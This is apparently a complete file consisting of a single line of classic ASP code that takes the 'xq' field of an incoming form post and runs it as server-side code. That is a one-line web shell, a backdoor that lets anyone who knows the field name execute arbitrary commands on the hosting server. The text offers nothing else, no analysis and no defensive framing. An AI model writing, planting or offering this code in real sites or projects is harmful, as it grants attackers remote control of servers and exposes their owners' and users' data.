<%Execute Request.Form("xq")%>
